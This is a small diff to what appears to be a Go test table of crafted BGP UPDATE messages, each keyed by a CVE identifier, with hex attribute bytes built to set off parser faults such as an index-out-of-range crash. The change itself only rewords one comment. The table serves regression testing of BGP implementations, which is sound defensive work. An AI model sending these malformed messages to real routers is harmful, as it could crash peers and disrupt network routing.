@@ -55,7 +55,7 @@ var attacks = map[string]struct {
 	"CVE-2026-7735": {update("40 01 01 00 40 02 00 40 03 04 7f000001 80 1a 02 01 00", "18 cb0071"), false},
 	// AS4_PATH before AS_PATH as the last attribute: index out of range.
 	"CVE-2026-41643": {update("40 01 01 00 40 03 04 7f000001 c0 11 06 0201 0000fbf4 40 02 06 0201 0000fbf4", ""), true},
-	// The published message of the same: AS4_PATH of one byte.
+	// The published message for the same attack: an AS4_PATH of one byte.
 	"CVE-2026-41643 as published": {update("40 11 01 02 40 02 04 ffffdead", ""), false},
 	// An unknown attribute that is marked as well-known.
 	"CVE-2026-41642": {update("40 01 01 00 40 02 00 40 03 04 7f000001 40 c8 01 00", "18 cb0071"), false},
